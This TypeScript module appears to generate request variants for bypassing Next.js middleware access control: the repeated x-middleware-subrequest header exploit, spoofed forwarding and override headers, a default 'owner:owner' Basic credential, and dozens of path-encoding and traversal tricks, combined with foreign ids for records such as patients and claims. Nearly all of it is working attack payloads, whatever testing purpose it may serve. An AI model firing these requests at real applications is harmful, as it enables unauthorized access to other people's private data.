import type { RawCall } from "./http-raw";

const times = (word: string, n = 5) => Array.from({ length: n }, () => word).join(":");

/** Headers that some version of Next, or a proxy before it, has taken for its own. */
const HEADERS: Record<string, string>[] = [
  ...["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware"].flatMap((word) => [
    { "x-middleware-subrequest": word },
    { "x-middleware-subrequest": times(word) },
  ]),
  { "x-middleware-next": "1" },
  { "x-middleware-prefetch": "1" },
  { "x-middleware-invoke": "1" },
  { "x-middleware-rewrite": "/docs/api" },
  { "x-middleware-redirect": "/docs/api" },
  { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "__Host-access=x" },
  { "x-forwarded-host": "elsewhere.example" },
  { "x-forwarded-proto": "https", "x-forwarded-port": "443" },
  { "x-forwarded-for": "127.0.0.1" },
  { "x-forwarded-prefix": "/api/health" },
  { "x-forwarded-uri": "/api/health" },
  { "x-forwarded-path": "/login" },
  { forwarded: "for=127.0.0.1;host=localhost;proto=https" },
  { "x-original-url": "/login" },
  { "x-rewrite-url": "/login" },
  { "x-http-method-override": "GET", "x-method-override": "GET" },
  { "x-invoke-path": "/login", "x-invoke-status": "200", "x-invoke-output": "/login" },
  { "x-matched-path": "/login" },
  { "x-now-route-matches": "1=x" },
  { "x-nextjs-data": "1" },
  { "x-nextjs-rewritten-path": "/login" },
  { "x-prerender-revalidate": "x", "x-prerender-revalidate-if-generated": "1" },
  { "next-url": "/login" },
  { "next-resume": "1" },
  { purpose: "prefetch", "sec-purpose": "prefetch" },
  { RSC: "1" },
  { RSC: "1", "Next-Router-Prefetch": "1" },
  { RSC: "1", "Next-Router-Prefetch": "1", "Next-Router-Segment-Prefetch": "/_tree" },
  {
    RSC: "1",
    "Next-Router-State-Tree": encodeURIComponent('["",{"children":["(desk)",{}]},null,"refetch"]'),
  },
  { "x-asked-path": "//elsewhere.example", "x-nonce": "x" },
  { Authorization: "Basic b3duZXI6b3duZXI=" },
  { Authorization: "Bearer ada_0000000000000000000000000000000000000000000" },
  { Cookie: "__Host-access=x; __Host-refresh=x" },
];

/** Other spellings of an address. `buildId` names the build's data routes. */
const paths = (path: string, buildId: string, foreign: string): string[] => {
  const bare = path.replace(/\/$/, "");
  const [, first = "", ...rest] = bare.split("/");
  const behind = rest.length > 0 ? `/${rest.join("/")}` : "";
  return [
    `${bare}/`,
    `${bare}.rsc`,
    `${bare}.segments/_tree.segment.rsc`,
    `${bare}.segments/_full.segment.rsc`,
    `${bare}.segments/_index.segment.rsc`,
    `/_next/data/${buildId}${bare}.json`,
    `/_next${bare}`,
    `${bare}?_rsc=1abcd`,
    ...["claimId", "appealId", "patientId", "documentId", "path", "id"].map(
      (name) => `${bare}?nxtP${name}=${foreign}&nxtI${name}=${foreign}&${name}=${foreign}`,
    ),
    `${bare}?__nextLocale=en&__nextDefaultLocale=en&__nextDataReq=1&__nextInferredLocaleFromDefault=1`,
    `${bare}?x-middleware-subrequest=${times("middleware")}`,
    `/${encodeURIComponent(bare.slice(1))}`,
    bare.replaceAll("/", "%2f"),
    `/${first}%2F${rest.join("%2F")}`,
    bare.replaceAll("/", "\\"),
    `/${first}%5c${rest.join("%5c")}`,
    `/${bare}`,
    `//${bare}`,
    bare.replaceAll("/", "//"),
    `${bare}//`,
    `/.${bare}`,
    `/x/..${bare}`,
    `/api/..${bare}`,
    `/_next/static/..${bare}`,
    `/_next/static/%2e%2e/%2e%2e${bare}`,
    `${bare}/.`,
    `${bare}/..;${bare}`,
    `${bare};a=b`,
    `${bare}.`,
    `${bare}./`,
    `${bare}%2e`,
    `${bare}%20`,
    `${bare}%09`,
    `${bare}%00`,
    `${bare}%0a`,
    `${bare}.json`,
    `${bare}.png`,
    `${bare}/x.png`,
    `${bare}.txt`,
    `/${first.toUpperCase()}${behind}`,
    `/${first.slice(0, 1).toUpperCase()}${first.slice(1)}${behind}`,
    bare.toUpperCase(),
    ...["en", "en-US", "de", "default"].map((locale) => `/${locale}${bare}`),
    `/%${first.charCodeAt(0).toString(16)}${first.slice(1)}${behind}`,
    `/(desk)${bare}`,
    `/%28desk%29${bare}`,
    `http://localhost${bare}`,
    `http://elsewhere.example${bare}`,
  ];
};

/** Ways to ask for `path` that have led past a middleware somewhere; `foreign` is an id to put in beside it. */
export function bypassShapes(path: string, buildId: string, foreign: string): RawCall[] {
  const shapes = paths(path, buildId, foreign);
  // As data, where it is a page of an id and the spelling may still lead to it.
  const asData = /^\/(?!api\/).*[0-9a-f]{12}/.test(path) ? shapes : [];
  return [
    { path },
    ...HEADERS.map((headers) => ({ path, headers })),
    ...shapes.map((shape) => ({ path: shape })),
    ...asData
      .filter((shape) => !/%0|\\|%5c|^\/_next|^http/.test(shape))
      .map((shape) => ({ path: shape, headers: { RSC: "1" } })),
  ];
}
